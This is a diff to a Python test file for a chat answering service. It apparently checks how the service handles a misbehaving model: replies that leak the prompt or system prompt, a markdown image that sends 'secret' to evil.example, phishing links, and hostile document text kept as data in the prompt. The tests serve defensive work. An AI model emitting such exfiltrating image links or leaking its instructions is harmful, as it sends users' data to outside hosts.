@@ -7,8 +7,8 @@ from typing import Any
 
 import pytest
 
-from chalicelib.model.chat.answers import SYSTEM
 from chalicelib.model.chat.export import as_markdown
+from chalicelib.model.prompts import ANSWERING
 from tests.hostile.strings import TEXTS
 from tests.support.messages import message
 from tests.support.talking import TALKS, Talk, document, talk
@@ -37,7 +37,7 @@ ORDERS: dict[str, Answer] = {
     "uncited": lambda _asked: {"sentences": [{"text": "The keeper is a thief.", "citations": []}]},
     "bobs": saying("The combination is known to Bob.", BOBS),
     "prompt": lambda asked: saying(json.dumps(asked), json.dumps(asked))(asked),
-    "system": saying(SYSTEM, SYSTEM),
+    "system": saying(ANSWERING, ANSWERING),
     "picture": saying("![x](https://evil.example/?q=secret) The keeper counts."),
     "link": saying("Log in at www.evil.example to hear more of the keeper."),
     "name": saying("Log in at t.co/AbC to hear more of the keeper."),
@@ -99,7 +99,7 @@ def test_what_is_no_answer_is_asked_for_again_later(talk: Talk, order: str) -> N
     talk.use_model(obey)
     reply = talk.ask(talk.begin(), "What does the lighthouse keeper count?")
     assert (reply.status, reply.body["state"], reply.body["attempts"]) == (202, "queued", 1)
-    assert reply.body["error"]["code"] in ("unavailable", "model_unusable")
+    assert reply.body["error"]["code"] in ("broken_answer", "unusable_answer", "model_unusable")
     assert talk.world.item("orders")["status"] == "READY"
 
 
@@ -135,7 +135,7 @@ def test_what_a_document_says_stands_in_a_string_of_the_prompt(talk: Talk) -> No
     talk.answer(talk.begin(), "What question and passages had the keeper?")
     (asked,) = talk.world.providers.asked
     system, user = asked["messages"]
-    assert (system["role"], system["content"], user["role"]) == ("system", SYSTEM, "user")
+    assert (system["role"], system["content"], user["role"]) == ("system", ANSWERING, "user")
     prompt = json.loads(user["content"])
     assert prompt["question"] == "What question and passages had the keeper?"
     assert [passage["text"] for passage in prompt["passages"]] == [hostile.strip()]
